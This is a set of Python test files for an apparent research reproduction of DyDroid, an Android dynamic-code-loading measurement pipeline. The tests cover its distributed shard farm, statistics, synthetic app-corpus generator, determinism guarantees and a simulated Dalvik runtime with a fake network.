        assert restored.quarantined == result.quarantined
        assert restored.metrics == result.metrics

    def test_fingerprint_tracks_every_input(self):
        base = run_fingerprint(SEED, N_APPS, pipeline_config())
        assert run_fingerprint(SEED + 1, N_APPS, pipeline_config()) != base
        assert run_fingerprint(SEED, N_APPS + 1, pipeline_config()) != base
        other = DyDroidConfig(train_samples_per_family=3, run_replays=False)
        assert run_fingerprint(SEED, N_APPS, other) != base


# -- lease ledger (fake clock) -----------------------------------------------------


def make_jobs(n_shards=3, apps_per_shard=1):
    jobs = []
    for shard_id in range(n_shards):
        start = shard_id * apps_per_shard
        jobs.append(
            ShardJob(
                shard_id=shard_id,
                corpus_seed=SEED,
                n_apps=n_shards * apps_per_shard,
                indices=tuple(range(start, start + apps_per_shard)),
                config=pipeline_config(),
            )
        )
    return jobs


class TestShardLedger:
    def make_ledger(self, **kwargs):
        now = [0.0]
        registry = MetricsRegistry()
        ledger = ShardLedger(
            kwargs.pop("jobs", make_jobs()),
            lease_s=kwargs.pop("lease_s", 10.0),
            registry=registry,
            clock=lambda: now[0],
        )
        return ledger, now, registry

    def test_grants_lowest_entry_first_then_drains(self):
        ledger, _, registry = self.make_ledger()
        granted = [ledger.lease("a").entry_id for _ in range(3)]
        assert granted == [0, 1, 2]
        assert ledger.lease("a") is None
        assert registry.counter_value("farm.lease.granted") == 3

    def test_renew_extends_the_lease(self):
        ledger, now, _ = self.make_ledger()
        entry = ledger.lease("a")
        now[0] = 8.0
        assert ledger.renew("a", entry.entry_id, {"completed": 1, "total": 1})
        now[0] = 12.0  # past the original expiry, inside the renewed one
        assert ledger.expire() == 0
        now[0] = 19.0
        assert ledger.expire() == 1

    def test_expired_lease_is_stolen_by_the_next_worker(self):
        ledger, now, registry = self.make_ledger()
        first = ledger.lease("a")
        now[0] = 11.0  # lease_s=10: worker a went silent
        second = ledger.lease("b")
        assert second.entry_id == first.entry_id
        assert second.attempts == 2
        assert registry.counter_value("farm.lease.expired") == 1
        assert registry.counter_value("farm.lease.stolen") == 1

    def test_regrant_to_the_same_worker_is_not_a_steal(self):
        ledger, now, registry = self.make_ledger()
        entry = ledger.lease("a")
        now[0] = 11.0
        assert ledger.lease("a").entry_id == entry.entry_id
        assert registry.counter_value("farm.lease.stolen") == 0

    def test_renew_after_expiry_reports_the_lease_lost(self):
        ledger, now, _ = self.make_ledger()
        entry = ledger.lease("a")
        now[0] = 11.0
        assert not ledger.renew("a", entry.entry_id, {})

    def test_completion_is_first_wins(self):
        ledger, now, registry = self.make_ledger()
        entry = ledger.lease("a")
        now[0] = 11.0
        stolen = ledger.lease("b")
        assert ledger.complete("b", stolen.entry_id)
        # worker a finished too late: its shipment is discarded.
        assert not ledger.complete("a", entry.entry_id)
        assert registry.counter_value("farm.lease.stale") == 1

    def test_completion_from_an_expired_holder_counts_if_first(self):
        ledger, now, _ = self.make_ledger()
        entry = ledger.lease("a")
        now[0] = 11.0  # expired, but nobody re-leased it
        assert ledger.complete("a", entry.entry_id)

    def test_fail_splits_a_multi_app_shard(self):
        ledger, _, _ = self.make_ledger(jobs=make_jobs(n_shards=1, apps_per_shard=3))
        entry = ledger.lease("a")
        requeued, quarantine = ledger.fail("a", entry.entry_id)
        assert requeued == 3
        assert quarantine == ()
        singles = [ledger.lease("a") for _ in range(3)]
        assert [s.job.indices for s in singles] == [(0,), (1,), (2,)]
        assert ledger.lease("a") is None

    def test_fail_surrenders_a_single_app_shard(self):
        ledger, _, _ = self.make_ledger(jobs=make_jobs(n_shards=1, apps_per_shard=1))
        entry = ledger.lease("a")
        requeued, quarantine = ledger.fail("a", entry.entry_id)
        assert requeued == 0
        assert quarantine == (0,)
        assert ledger.done()

    def test_done_requires_every_entry(self):
        ledger, _, _ = self.make_ledger(jobs=make_jobs(n_shards=2))
        first = ledger.lease("a")
        ledger.complete("a", first.entry_id)
        assert not ledger.done()
        second = ledger.lease("a")
        ledger.complete("a", second.entry_id)
        assert ledger.done()


# -- coordinator HTTP surface ------------------------------------------------------


class TestCoordinatorEndpoints:
    @pytest.fixture()
    def coordinator(self):
        coordinator = FarmCoordinator(farm_config(), port=0, lease_s=30.0).start()
        try:
            yield coordinator
        finally:
            coordinator.stop()

    def test_run_descriptor_reconstructs_the_fingerprint(self, coordinator):
        client = ServiceClient("127.0.0.1", coordinator.port)
        run = client.request("GET", "/v1/run")
        config = config_from_wire(run["pipeline"])
        assert config == coordinator.config.pipeline
        assert (
            run_fingerprint(run["corpus_seed"], run["n_apps"], config)
            == run["fingerprint"]
        )

    def test_malformed_posts_are_rejected(self, coordinator):
        client = ServiceClient("127.0.0.1", coordinator.port)
        body = client.request("POST", "/v1/lease", {}, expect_error=True)
        assert body["_status"] == 400
        body = client.request(
            "POST", "/v1/renew", {"worker": "w", "entry_id": "zero"},
            expect_error=True,
        )
        assert body["_status"] == 400

    def test_unknown_route_is_404(self, coordinator):
        client = ServiceClient("127.0.0.1", coordinator.port)
        with pytest.raises(ServiceClientError) as excinfo:
            client.request("GET", "/v1/nope")
        assert excinfo.value.status == 404

    def test_health_status_and_prom_metrics(self, coordinator):
        client = ServiceClient("127.0.0.1", coordinator.port)
        assert client.request("GET", "/healthz")["ok"] is True
        client.request("POST", "/v1/lease", {"worker": "probe"})
        status = client.request("GET", "/v1/status")
        assert status["ledger"]["leased"] == 1
        assert status["ledger"]["workers"] == ["probe"]
        prom = client.request_text("GET", "/metrics?format=prom")
        assert "repro_farm_lease_granted_total 1" in prom

    def test_join_refuses_a_dead_coordinator(self):
        probe = socket.socket()
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
        probe.close()
        with pytest.raises(FarmJoinError):
            join_farm("127.0.0.1", port, worker_id="ghost")


# -- end-to-end drains -------------------------------------------------------------


class TestNetworkDrain:
    def test_single_node_matches_the_local_farm(self, local_result, tmp_path):
        coordinator = FarmCoordinator(farm_config(), port=0, lease_s=30.0).start()
        try:
            summary = join_farm(
                "127.0.0.1",
                coordinator.port,
                worker_id="nodeA",
                telemetry_dir=str(tmp_path),
            )
            result = coordinator.wait(timeout=120.0)
        finally:
            coordinator.stop()
        assert summary.shards_completed == N_SHARDS
        assert summary.apps_analyzed == N_APPS
        assert summary.errors == []
        assert result.report.render_all() == local_result.report.render_all()
        assert result.metrics["leases"]["granted"] == N_SHARDS
        assert result.metrics["leases"]["stale"] == 0

    def test_coordinator_crash_leaves_a_resumable_journal(self, local_result, tmp_path):
        checkpoint = str(tmp_path / "journal.jsonl")
        first = FarmCoordinator(
            farm_config(checkpoint=checkpoint), port=0, lease_s=30.0
        ).start()
        try:
            # Drive exactly one shard by hand, then stop the coordinator
            # mid-run -- the journal must absorb that shard and nothing else.
            entry = first.ledger.lease("manual")
            result = run_shard(entry.job)
            first.handle_complete("manual", entry.entry_id, shard_result_to_wire(result))
        finally:
            first.stop()

        second = FarmCoordinator(
            farm_config(checkpoint=checkpoint, resume=True), port=0, lease_s=30.0
        ).start()
        try:
            summary = join_farm(
                "127.0.0.1",
                second.port,
                worker_id="nodeB",
                telemetry_dir=str(tmp_path / "telemetry"),
            )
            merged = second.wait(timeout=120.0)
        finally:
            second.stop()
        assert merged.resumed_apps == len(entry.job.indices)
        assert summary.shards_completed == N_SHARDS - 1
        assert merged.report.render_all() == local_result.report.render_all()

    def test_fully_resumed_serve_finishes_without_workers(self, local_result, tmp_path):
        checkpoint = str(tmp_path / "journal.jsonl")
        coordinator = FarmCoordinator(
            farm_config(checkpoint=checkpoint), port=0, lease_s=30.0
        ).start()
        try:
            join_farm(
                "127.0.0.1",
                coordinator.port,
                worker_id="nodeA",
                telemetry_dir=str(tmp_path / "telemetry"),
            )
            coordinator.wait(timeout=120.0)
        finally:
            coordinator.stop()

        resumed = FarmCoordinator(
            farm_config(checkpoint=checkpoint, resume=True), port=0, lease_s=30.0
        ).start()
        try:
            result = resumed.wait(timeout=10.0)
        finally:
            resumed.stop()
        assert result.resumed_apps == N_APPS
        assert result.metrics["leases"]["granted"] == 0
        assert result.report.render_all() == local_result.report.render_all()


class TestWorkerKilledMidShard:
    def test_sigkilled_worker_shard_is_stolen_exactly_once(
        self, local_result, corpus_packages, tmp_path
    ):
        """The acceptance scenario: two nodes, one SIGKILLed mid-shard.

        Shard 0's apps are chaos-slowed so the kill lands while node A
        verifiably holds its lease; the lease expires, node B steals the
        shard, and the merged report must still equal the local
        single-process run -- every app analyzed exactly once fleet-wide
        (a double fold would change the merged tables).
        """
        slow = tuple(corpus_packages[:3])  # contiguous shard 0 = indices 0..2
        config = farm_config(
            checkpoint=str(tmp_path / "journal.jsonl"),
            verdict_store=str(tmp_path / "verdicts.jsonl"),
            chaos=ChaosSpec(slow_packages=slow, slow_s=0.6),
        )
        coordinator = FarmCoordinator(config, port=0, lease_s=1.0).start()
        src = os.path.join(
            os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "src"
        )
        env = dict(os.environ)
        env["PYTHONPATH"] = src + os.pathsep + env.get("PYTHONPATH", "")
        process = subprocess.Popen(
            [
                sys.executable, "-m", "repro", "farm", "join",
                "--host", "127.0.0.1", "--port", str(coordinator.port),
                "--name", "nodeA", "--telemetry-dir", str(tmp_path / "nodeA"),
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            env=env,
        )
        try:
            # Wait until node A verifiably holds a lease...
            deadline = time.monotonic() + 60.0
            held = None
            while time.monotonic() < deadline:
                leases = coordinator.status()["ledger"]["leases"]
                held = next((l for l in leases if l["worker"] == "nodeA"), None)
                if held is not None:
                    break
                time.sleep(0.05)
            assert held is not None, "node A never leased a shard"
            time.sleep(0.25)  # ...and is mid-app inside the slowed shard.
            process.send_signal(signal.SIGKILL)
            process.wait(timeout=30)

            summary = join_farm(
                "127.0.0.1",
                coordinator.port,
                worker_id="nodeB",
                telemetry_dir=str(tmp_path / "nodeB"),
            )
            result = coordinator.wait(timeout=180.0)
        finally:
            if process.poll() is None:
                process.kill()
                process.wait()
            coordinator.stop()

        leases = result.metrics["leases"]
        assert leases["expired"] >= 1, leases
        assert leases["stolen"] >= 1, leases
        assert summary.errors == []
        # Exactly-once fleet-wide: the merged report is byte-identical to
        # the uninterrupted single-process reference.
        assert result.report.render_all() == local_result.report.render_all()
        assert len(result.quarantined) == 0
