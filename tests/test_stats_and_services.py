"""Tests for the statistics module and the service-exercising extension."""

import pytest

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.android.manifest import AndroidManifest, Component, ComponentKind, INTERNET, WRITE_EXTERNAL_STORAGE
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.core.stats import (
    category_concentration,
    popularity_association,
    rate_confidence_interval,
    _mann_whitney_normal_approx,
)
from repro.corpus.generator import generate_corpus
from repro.dynamic.engine import AppExecutionEngine, DynamicOutcome, EngineOptions

from tests.helpers import simple_payload_dex


@pytest.fixture(scope="module")
def measured():
    corpus = generate_corpus(700, seed=51)
    return DyDroid(DyDroidConfig(train_samples_per_family=2, run_replays=False)).measure(corpus)


class TestPopularityAssociation:
    def test_native_association_significant(self, measured):
        results = popularity_association(measured)
        by_key = {(r.group, r.metric): r for r in results}
        native_downloads = by_key[("Native", "downloads")]
        # the strongest paper effect: native-DCL apps are hugely more popular.
        assert native_downloads.group_mean > native_downloads.complement_mean
        assert native_downloads.significant
        native_ratings = by_key[("Native", "n_ratings")]
        assert native_ratings.significant

    def test_all_four_comparisons_present(self, measured):
        results = popularity_association(measured)
        assert {(r.group, r.metric) for r in results} == {
            ("DEX", "downloads"),
            ("DEX", "n_ratings"),
            ("Native", "downloads"),
            ("Native", "n_ratings"),
        }

    def test_normal_approximation_agrees_directionally(self):
        high = [100.0, 120.0, 130.0, 150.0, 170.0, 200.0]
        low = [1.0, 2.0, 3.0, 4.0, 5.0, 6.0]
        _, p = _mann_whitney_normal_approx(high, low)
        assert p < 0.01
        _, p_reverse = _mann_whitney_normal_approx(low, high)
        assert p_reverse > 0.9


class TestCategoryConcentration:
    def test_packed_apps_concentrate(self, measured):
        chi2, p = category_concentration(measured)
        # with only 1-2 packed apps at this scale significance is weak, but
        # the statistic must be computable and non-negative.
        assert chi2 >= 0.0
        assert 0.0 <= p <= 1.0

    def test_no_packed_apps(self):
        from repro.core.report import MeasurementReport

        chi2, p = category_concentration(MeasurementReport(apps=[]))
        assert (chi2, p) == (0.0, 1.0)

    def test_concentration_significant_at_scale(self):
        # Build a synthetic report: 40 packed apps all in dominant
        # categories against a uniform 42-category corpus.
        from repro.core.report import AppAnalysis, MeasurementReport
        from repro.corpus.metadata import CATEGORIES, AppMetadata
        from repro.static_analysis.obfuscation.detector import ObfuscationProfile

        apps = []
        for index in range(420):
            apps.append(
                AppAnalysis(
                    package="p{}".format(index),
                    metadata=AppMetadata(
                        category=CATEGORIES[index % 42],
                        downloads=10,
                        n_ratings=1,
                        avg_rating=4.0,
                        release_time_ms=0,
                    ),
                    obfuscation=ObfuscationProfile(),
                )
            )
        for index in range(40):
            apps.append(
                AppAnalysis(
                    package="packed{}".format(index),
                    metadata=AppMetadata(
                        category=("Entertainment", "Tools", "Shopping")[index % 3],
                        downloads=10,
                        n_ratings=1,
                        avg_rating=4.0,
                        release_time_ms=0,
                    ),
                    obfuscation=ObfuscationProfile(dex_encryption=True),
                )
            )
        chi2, p = category_concentration(MeasurementReport(apps=apps))
        assert p < 0.001


class TestWilsonInterval:
    def test_contains_point_estimate(self):
        low, high = rate_confidence_interval(41, 100)
        assert low < 0.41 < high

    def test_narrows_with_n(self):
        low_small, high_small = rate_confidence_interval(41, 100)
        low_big, high_big = rate_confidence_interval(4100, 10_000)
        assert (high_big - low_big) < (high_small - low_small)

    def test_edge_cases(self):
        assert rate_confidence_interval(0, 0) == (0.0, 1.0)
        low, high = rate_confidence_interval(0, 50)
        assert low == 0.0 and high < 0.15
        low, high = rate_confidence_interval(50, 50)
        assert high == 1.0 and low > 0.85


def _service_only_app():
    package = "com.svc.app"
    service_name = "{}.SyncService".format(package)
    cls = class_builder(service_name, superclass="android.app.Service")
    b = MethodBuilder("onStartCommand", service_name, arity=1)
    from repro.corpus.behaviors import emit_asset_to_file, emit_dex_load

    dest = "/data/data/{}/files/sync_plugin.jar".format(package)
    emit_asset_to_file(b, "plugin.bin", dest)
    emit_dex_load(b, dest, "/data/data/{}/cache/odex".format(package))
    b.ret_void()
    cls.add_method(b.build())
    manifest = AndroidManifest(
        package=package,
        permissions={INTERNET, WRITE_EXTERNAL_STORAGE},
        components=[Component(ComponentKind.SERVICE, service_name)],
    )
    return Apk.build(
        manifest,
        dex_files=[DexFile(classes=[cls])],
        assets={"assets/plugin.bin": simple_payload_dex().to_bytes()},
    )


class TestServiceExercising:
    def test_default_matches_paper_no_activity(self):
        report = AppExecutionEngine(EngineOptions()).run(_service_only_app())
        assert report.outcome is DynamicOutcome.NO_ACTIVITY
        assert not report.intercepted

    def test_extension_recovers_service_dcl(self):
        report = AppExecutionEngine(EngineOptions(exercise_services=True)).run(
            _service_only_app()
        )
        assert report.outcome is DynamicOutcome.EXERCISED
        assert report.intercepted
        assert report.dcl.dex_paths() == ["/data/data/com.svc.app/files/sync_plugin.jar"]

    def test_crashing_service(self):
        package = "com.badsvc.app"
        service_name = "{}.S".format(package)
        cls = class_builder(service_name, superclass="android.app.Service")
        b = MethodBuilder("onStartCommand", service_name, arity=1)
        b.throw_new("java.lang.IllegalStateException")
        cls.add_method(b.build())
        manifest = AndroidManifest(
            package=package,
            permissions={WRITE_EXTERNAL_STORAGE},
            components=[Component(ComponentKind.SERVICE, service_name)],
        )
        apk = Apk.build(manifest, dex_files=[DexFile(classes=[cls])])
        report = AppExecutionEngine(EngineOptions(exercise_services=True)).run(apk)
        assert report.outcome is DynamicOutcome.CRASH
