"""Tests for the synthetic market generator: calibration, planting, assembly."""

import random

import pytest

from repro.corpus.behaviors import EnvGates, extract_url_constants
from repro.corpus.generator import AppBlueprint, CorpusGenerator, generate_corpus
from repro.corpus.metadata import CATEGORIES, sample_metadata
from repro.corpus.profiles import CorpusProfile, FIG3_CATEGORY_WEIGHTS
from repro.corpus.names import package_name
from repro.static_analysis.decompiler import Decompiler
from repro.static_analysis.malware import families
from repro.static_analysis.prefilter import prefilter


@pytest.fixture(scope="module")
def blueprints():
    return CorpusGenerator(seed=3).sample_blueprints(1200)


@pytest.fixture(scope="module")
def generator():
    return CorpusGenerator(seed=3)


class TestBlueprintCalibration:
    def test_dex_code_rate(self, blueprints):
        rate = sum(b.has_dex_dcl_code for b in blueprints) / len(blueprints)
        assert 0.62 <= rate <= 0.77  # paper: 69.5%

    def test_native_code_rate(self, blueprints):
        rate = sum(b.has_native_code for b in blueprints) / len(blueprints)
        assert 0.36 <= rate <= 0.50  # paper: 43.0%

    def test_union_rate_is_46k_like(self, blueprints):
        union = sum(
            b.has_dex_dcl_code or b.has_native_code for b in blueprints
        ) / len(blueprints)
        assert 0.72 <= union <= 0.85  # paper: 78.3%

    def test_dex_reachability_rate(self, blueprints):
        dex_apps = [b for b in blueprints if b.has_dex_dcl_code]
        exercised = [
            b for b in dex_apps if not (b.anti_repackaging or b.no_activity or b.crashy)
        ]
        rate = sum(b.dex_dcl_reachable for b in exercised) / len(exercised)
        assert 0.33 <= rate <= 0.52  # paper: 41.6%

    def test_entity_mix_mostly_third_party(self, blueprints):
        reachable = [b for b in blueprints if b.dex_dcl_reachable]
        third = sum(1 for b in reachable if b.dex_entity in ("third", "both"))
        assert third / len(reachable) > 0.95

    def test_planted_counts_scale(self):
        profile = CorpusProfile()
        assert profile.planted_count(27, 58_739) == 27
        assert profile.planted_count(27, 5_874) == 3
        assert profile.planted_count(1, 600) == 1   # never vanishes
        assert profile.planted_count(0, 600) == 0

    def test_rare_roles_planted(self, blueprints):
        assert sum(b.is_baidu_remote for b in blueprints) >= 1
        assert sum(b.is_packed for b in blueprints) >= 1
        assert sum(b.malware_family == families.CHATHOOK_PTRACE for b in blueprints) >= 1
        assert sum(b.vuln_kind == "dex-external" for b in blueprints) >= 1
        assert sum(b.vuln_kind == "native-other-app" for b in blueprints) >= 1
        assert sum(b.anti_decompilation for b in blueprints) >= 1

    def test_planted_roles_are_runnable(self, blueprints):
        for blueprint in blueprints:
            if blueprint.is_baidu_remote or blueprint.malware_family:
                assert not blueprint.crashy
                assert not blueprint.anti_repackaging
                assert not blueprint.no_activity

    def test_packed_apps_use_fig3_categories(self, blueprints):
        packed = [b for b in blueprints if b.is_packed]
        assert packed
        assert all(b.category in FIG3_CATEGORY_WEIGHTS for b in packed)

    def test_google_ads_dominates_privacy_hosts(self, blueprints):
        reachable = [
            b for b in blueprints
            if b.dex_dcl_reachable and not b.is_packed and not b.is_baidu_remote
            and b.malware_family is None
        ]
        ads = sum(b.uses_google_ads for b in reachable)
        assert ads / len(reachable) > 0.8  # paper: 15,012/16,768

    def test_obfuscation_rates(self, blueprints):
        lexical = sum(b.lexical_obfuscated for b in blueprints) / len(blueprints)
        reflection = sum(b.reflection for b in blueprints) / len(blueprints)
        assert 0.85 <= lexical <= 0.94   # paper: 89.95%
        assert 0.46 <= reflection <= 0.59  # paper: 52.20%

    def test_packages_unique(self, blueprints):
        packages = [b.package for b in blueprints]
        assert len(packages) == len(set(packages))


class TestAssembly:
    def test_determinism(self):
        a = generate_corpus(60, seed=9)
        b = generate_corpus(60, seed=9)
        assert [r.apk.sha256() for r in a] == [r.apk.sha256() for r in b]

    def test_different_seeds_differ(self):
        a = generate_corpus(30, seed=1)
        b = generate_corpus(30, seed=2)
        assert [r.apk.sha256() for r in a] != [r.apk.sha256() for r in b]

    def test_prefilter_agrees_with_blueprint(self, generator):
        decompiler = Decompiler()
        for record in generator.generate(120):
            blueprint = record.blueprint
            if blueprint.anti_decompilation:
                continue
            result = prefilter(decompiler.decompile(record.apk))
            assert result.has_dex_dcl == blueprint.has_dex_dcl_code or blueprint.is_packed, blueprint
            if blueprint.has_native_code:
                # native code presence implies JNI API references...
                assert result.has_native_dcl or blueprint.is_packed

    def test_baidu_record_hosts_remote_binaries(self, generator):
        blueprints = generator.sample_blueprints(1200)
        baidu = next(b for b in blueprints if b.is_baidu_remote)
        record = generator.build_record(baidu)
        jar_urls = [u for u in record.remote_resources if u.endswith(".jar")]
        apk_urls = [u for u in record.remote_resources if u.endswith(".apk")]
        assert jar_urls and apk_urls
        assert all(u.startswith("http://mobads.baidu.com/ads/pa/") for u in jar_urls + apk_urls)

    def test_vuln_native_record_has_companion(self, generator):
        blueprints = generator.sample_blueprints(1200)
        vuln = next(b for b in blueprints if b.vuln_kind == "native-other-app")
        record = generator.build_record(vuln)
        assert record.companions
        assert record.companions[0].package in ("com.adobe.air", "com.devicescape.offloader")

    def test_packed_app_structure(self, generator):
        blueprints = generator.sample_blueprints(1200)
        packed = next(b for b in blueprints if b.is_packed)
        record = generator.build_record(packed)
        apk = record.apk
        manifest = apk.manifest
        assert manifest.application_name == packed.packer_container
        assert apk.packed_payload_entries()              # encrypted payload
        # declared activity missing from the shipped bytecode (rule 2).
        program = Decompiler().decompile(apk)
        assert not manifest.component_names().issubset(program.class_names())

    def test_all_embedded_urls_hosted(self, generator):
        for record in generator.generate(80):
            if record.blueprint.anti_decompilation:
                continue
            for dex in record.apk.dex_files():
                for url in extract_url_constants(dex):
                    assert url in record.remote_resources, (record.package, url)

    def test_metadata_popularity_correlation(self):
        profile = CorpusProfile()
        rng = random.Random(5)
        native = [
            sample_metadata(rng, profile, True, True, "Tools", 0).downloads
            for _ in range(600)
        ]
        plain = [
            sample_metadata(rng, profile, False, False, "Tools", 0).downloads
            for _ in range(600)
        ]
        assert sum(native) / len(native) > sum(plain) / len(plain)

    def test_release_dates_before_crawl(self, generator):
        for record in generator.generate(30):
            assert record.release_time_ms < 1479168000000

    def test_category_pool(self):
        assert len(CATEGORIES) == 42
        assert len(set(CATEGORIES)) == 42

    def test_too_small_corpus_raises(self):
        with pytest.raises(RuntimeError):
            CorpusGenerator(seed=0).sample_blueprints(5)
