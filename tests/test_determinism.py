"""Determinism guarantees: same seed, same everything.

The measurement is only reproducible if every layer is deterministic end
to end -- corpus synthesis, fuzzing schedules, dynamic execution, and the
aggregated tables.  These tests pin that contract.
"""

import pytest

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.static_analysis.malware.acfg import binary_signatures
from repro.static_analysis.malware.families import training_corpus


class TestEndToEndDeterminism:
    def test_measurement_reports_identical(self):
        corpus_a = generate_corpus(150, seed=99)
        corpus_b = generate_corpus(150, seed=99)
        config = DyDroidConfig(train_samples_per_family=2, run_replays=True)
        report_a = DyDroid(config).measure(corpus_a)
        report_b = DyDroid(config).measure(corpus_b)
        assert report_a.to_dict() == report_b.to_dict()

    def test_dynamic_run_identical(self):
        corpus = generate_corpus(200, seed=98)
        record = next(
            r for r in corpus if r.blueprint.dex_dcl_reachable and r.blueprint.uses_google_ads
        )
        options = EngineOptions(
            remote_resources=record.remote_resources,
            companions=record.companions,
            release_time_ms=record.release_time_ms,
        )
        run_a = AppExecutionEngine(options).run(record.apk)
        run_b = AppExecutionEngine(options).run(record.apk)
        assert run_a.outcome == run_b.outcome
        assert [p.path for p in run_a.intercepted] == [p.path for p in run_b.intercepted]
        assert [p.data for p in run_a.intercepted] == [p.data for p in run_b.intercepted]
        assert run_a.logcat == run_b.logcat

    def test_monkey_schedule_is_seeded_not_global(self):
        """Two engines with different seeds diverge; same seed agrees --
        and neither depends on the global random module state."""
        import random

        from repro.dynamic.monkey import Monkey

        handlers = {"a.A": ["onTap", "onSwipe", "onHold"]}
        random.seed(1)
        plan_a = Monkey(seed=5, event_budget=20).plan(["a.A"], handlers)
        random.seed(2)
        plan_b = Monkey(seed=5, event_budget=20).plan(["a.A"], handlers)
        assert plan_a == plan_b

    def test_training_corpus_deterministic(self):
        corpus_a = training_corpus(samples_per_family=2, seed=4)
        corpus_b = training_corpus(samples_per_family=2, seed=4)
        signatures_a = [binary_signatures(binary) for _, binary in corpus_a]
        signatures_b = [binary_signatures(binary) for _, binary in corpus_b]
        assert signatures_a == signatures_b

    def test_different_seeds_differ_somewhere(self):
        report_a = DyDroid(
            DyDroidConfig(train_samples_per_family=2, run_replays=False)
        ).measure(generate_corpus(120, seed=1))
        report_b = DyDroid(
            DyDroidConfig(train_samples_per_family=2, run_replays=False)
        ).measure(generate_corpus(120, seed=2))
        assert report_a.to_dict() != report_b.to_dict()
