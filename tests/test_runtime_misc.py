"""Additional runtime coverage: device, network, stack traces, package
contexts, storage exhaustion handling, report rendering details."""

import pytest

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.runtime.device import (
    BASELINE_CONFIG,
    TABLE_VIII_CONFIGS,
    Device,
    DeviceConfig,
    EnvironmentConfig,
)
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.network import HttpNotFoundError, Network, NetworkUnavailableError
from repro.runtime.objects import VMException, VMObject, as_bool, object_key, type_name
from repro.runtime.stacktrace import StackTraceElement, call_site_class, render, shares_app_package
from repro.runtime.vm import DalvikVM
from repro.dynamic.engine import AppExecutionEngine, DynamicOutcome, EngineOptions

from tests.helpers import build_manifest, simple_payload_dex


class TestNetwork:
    def test_host_and_fetch(self):
        network = Network()
        network.host_resource("http://a.example/x/y", b"payload")
        assert network.fetch("http://a.example/x/y") == b"payload"
        assert network.fetch_log == [("http://a.example/x/y", True)]

    def test_missing_resource_404(self):
        network = Network()
        network.host_resource("http://a.example/x", b"d")
        with pytest.raises(HttpNotFoundError):
            network.fetch("http://a.example/other")

    def test_unknown_host_404(self):
        with pytest.raises(HttpNotFoundError):
            Network().fetch("http://nobody.example/")

    def test_offline(self):
        network = Network()
        network.host_resource("http://a.example/x", b"d")
        with pytest.raises(NetworkUnavailableError):
            network.fetch("http://a.example/x", online=False)
        assert network.fetch_log == [("http://a.example/x", False)]

    def test_callable_resource(self):
        network = Network()
        server = network.server("dyn.example")
        server.flags["on"] = False
        server.put("/p", lambda srv, path: b"yes" if srv.flags["on"] else None)
        with pytest.raises(HttpNotFoundError):
            network.fetch("http://dyn.example/p")
        server.flags["on"] = True
        assert network.fetch("http://dyn.example/p") == b"yes"


class TestDevice:
    def test_install_extracts_native_libs(self):
        from repro.android.nativelib import NativeLibrary

        apk = Apk.build(
            build_manifest("com.n.app"), native_libs=[NativeLibrary(name="libz.so")]
        )
        device = Device()
        device.install(apk)
        assert device.vfs.exists("/data/data/com.n.app/lib/libz.so")
        assert device.vfs.exists("/data/app/com.n.app-1.apk")

    def test_uninstall_wipes_data(self):
        apk = Apk.build(build_manifest("com.n.app"))
        device = Device()
        device.install(apk)
        device.vfs.write("/data/data/com.n.app/files/x", b"1", owner="com.n.app")
        assert device.uninstall("com.n.app")
        assert not device.vfs.exists("/data/data/com.n.app/files/x")
        assert not device.uninstall("com.n.app")

    def test_connectivity_matrix(self):
        device = Device()
        assert device.is_online()
        device.config.airplane_mode = True
        device.config.wifi_enabled = True
        assert device.is_online()
        device.config.wifi_enabled = False
        assert not device.is_online()

    def test_apply_environment_time_relative_to_release(self):
        device = Device()
        release = 1_000_000_000_000
        env = EnvironmentConfig(name="t", time_shift_days=-10)
        device.apply_environment(env, release_time_ms=release)
        assert device.now_ms() == release - 10 * 86_400_000

    def test_apply_environment_syncs_settings(self):
        device = Device()
        device.apply_environment(EnvironmentConfig(name="a", airplane_mode=True))
        assert device.settings["airplane_mode_on"] == "1"
        device.apply_environment(BASELINE_CONFIG)
        assert device.settings["airplane_mode_on"] == "0"

    def test_table_viii_config_names(self):
        assert [c.name for c in TABLE_VIII_CONFIGS] == [
            "system-time-before-release",
            "airplane-wifi-on",
            "airplane-wifi-off",
            "location-off",
        ]

    def test_system_libs_seeded(self):
        device = Device()
        assert device.vfs.exists("/system/lib/libc.so")


class TestStackTraces:
    def test_call_site_skips_framework(self):
        stack = (
            StackTraceElement("dalvik.system.DexClassLoader", "<init>"),
            StackTraceElement("java.lang.ClassLoader", "loadClass"),
            StackTraceElement("com.vendor.sdk.Loader", "start"),
            StackTraceElement("com.app.MainActivity", "onCreate"),
        )
        assert call_site_class(stack) == "com.vendor.sdk.Loader"

    def test_all_framework_returns_none(self):
        stack = (StackTraceElement("android.app.ActivityThread", "main"),)
        assert call_site_class(stack) is None

    def test_shares_app_package_boundaries(self):
        assert shares_app_package("com.app.ui.Widget", "com.app")
        assert shares_app_package("com.app", "com.app")
        assert not shares_app_package("com.application.X", "com.app")
        assert not shares_app_package("com.ap", "com.app")

    def test_render(self):
        lines = render([StackTraceElement("a.B", "m")])
        assert lines == ["  at a.B.m"]


class TestObjects:
    def test_as_bool(self):
        assert not as_bool(None) and not as_bool(0) and not as_bool("")
        assert as_bool(1) and as_bool(VMObject("x"))

    def test_type_names(self):
        assert type_name(None) == "null"
        assert type_name(5) == "int"
        assert type_name("s") == "java.lang.String"
        assert type_name(b"b") == "byte[]"
        assert type_name(VMObject("a.B")) == "a.B"

    def test_object_key_stable_and_unique(self):
        a, b = VMObject("x.Y"), VMObject("x.Y")
        assert object_key(a) != object_key(b)
        assert object_key(a) == object_key(a)

    def test_exception_carries_class(self):
        exc = VMException("java.io.IOException", "boom")
        assert exc.class_name == "java.io.IOException"
        assert "boom" in str(exc)


class TestPackageContexts:
    """Section II: apps can use package contexts to retrieve the classes
    contained in another application -- that is a DCL event too."""

    def _loader_app(self, target_package):
        package = "com.borrower.app"
        activity = "{}.MainActivity".format(package)
        cls = class_builder(activity, superclass="android.app.Activity")
        b = MethodBuilder("onCreate", activity, arity=1)
        foreign = b.call_virtual(
            "android.content.Context", "createPackageContext",
            b.arg(0), b.new_string(target_package), b.new_int(1),
        )
